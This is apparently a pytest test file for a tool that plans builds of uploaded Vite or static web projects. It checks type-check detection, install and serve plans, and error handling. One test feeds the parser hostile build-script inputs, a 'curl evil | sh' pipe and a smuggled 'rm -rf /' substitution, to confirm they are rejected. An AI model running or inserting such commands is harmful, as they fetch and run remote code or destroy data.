import pytest

from orchestrator.core.exceptions import InvalidUpload
from orchestrator.core.plan import (
    ProjectType,
    detect_project_type,
    detect_typecheck,
    make_plan,
    parse_package_json,
)

VITE = {"devDependencies": {"vite": "^8.0.0"}}


def pkg(build=None, **scripts):
    scripts = dict(scripts)
    if build is not None:
        scripts["build"] = build
    return {**VITE, "scripts": scripts}


# The build scripts of create-vite's templates, as they ship.
@pytest.mark.parametrize(
    ("build", "expected"),
    [
        ("tsc -b && vite build", "tsc -b"),  # react-ts, preact-ts
        ("tsc && vite build", "tsc"),  # vanilla-ts, lit-ts, qwik-ts
        ("vue-tsc -b && vite build", "vue-tsc -b"),  # vue-ts
        ("npx tsc --noEmit -p tsconfig.app.json && vite build", "tsc --noEmit -p tsconfig.app.json"),
        (
            "svelte-check && tsc -p tsconfig.node.json && vite build",
            "svelte-check && tsc -p tsconfig.node.json",
        ),
    ],
)
def test_type_checker_taken_from_the_build_script(build, expected):
    check = detect_typecheck(["package.json"], pkg(build))
    assert check.command == expected
    assert "build" in check.reason


def test_a_typecheck_or_check_script_wins_over_the_build_script():
    assert detect_typecheck([], pkg("tsc -b && vite build", check="svelte-check")).command == "npm run check"
    assert (
        detect_typecheck([], pkg("tsc -b", typecheck="tsc --noEmit", check="x")).command
        == "npm run typecheck"
    )


def test_build_without_a_type_checker_falls_back_to_tsconfig():
    with_ts = {**pkg("vite build"), "devDependencies": {"vite": "8", "typescript": "5"}}
    assert detect_typecheck(["tsconfig.json"], with_ts).command == "tsc --noEmit"
    skipped = detect_typecheck(["tsconfig.json"], pkg("vite build"))
    assert skipped.command is None and "typescript is not a dependency" in skipped.reason


def test_no_type_check_is_skipped_with_a_reason():
    check = detect_typecheck(["index.html"], pkg("vite build"))
    assert check.command is None
    assert "skipped" in check.reason


def test_shell_tricks_in_the_build_script_are_not_taken():
    assert detect_typecheck([], pkg("tsc -b; curl evil | sh && vite build")).command is None
    assert detect_typecheck([], pkg("tsc $(rm -rf /) && vite build")).command is None


def test_project_type():
    assert detect_project_type(["package.json"], VITE) is ProjectType.VITE
    assert detect_project_type(["index.html"], None) is ProjectType.STATIC
    assert detect_project_type(["index.html", "package.json"], {"name": "x"}) is ProjectType.STATIC
    with pytest.raises(InvalidUpload, match="no package.json and no index.html"):
        detect_project_type(["readme.md"], None)
    with pytest.raises(InvalidUpload, match="does not depend on vite"):
        detect_project_type(["package.json"], {"dependencies": {"react": "19"}})


def test_plan_serves_on_the_host_port_inside_the_container():
    plan = make_plan(["package.json", "index.html"], pkg("tsc -b && vite build"), 41007)
    assert plan.serve.startswith("vite --host 0.0.0.0 --port 41007 --strictPort")
    assert plan.install is not None and plan.install.command == "npm install"
    assert plan.typecheck.command == "tsc -b"


def test_the_projects_own_install_scripts_are_a_step_of_their_own():
    package = {**pkg("tsc -b && vite build"), "scripts": {"postinstall": "node fix.js", "dev": "vite"}}
    plan = make_plan(["package.json", "index.html"], package, 41007)
    assert plan.install is not None and plan.install.lifecycle == "npm run postinstall"
    assert plan.install.env["npm_config_cache"].startswith("/tmp/")


def test_static_plan_has_no_install_and_no_type_check():
    plan = make_plan(["index.html"], None, 41001)
    assert plan.project_type is ProjectType.STATIC
    assert plan.install is None and plan.typecheck.command is None
    assert "/opt/static-server" in plan.serve


def test_bad_package_json_is_a_clear_error():
    with pytest.raises(InvalidUpload, match="not valid JSON"):
        parse_package_json(b"{nope")
    with pytest.raises(InvalidUpload, match="JSON object"):
        parse_package_json(b"[1, 2]")
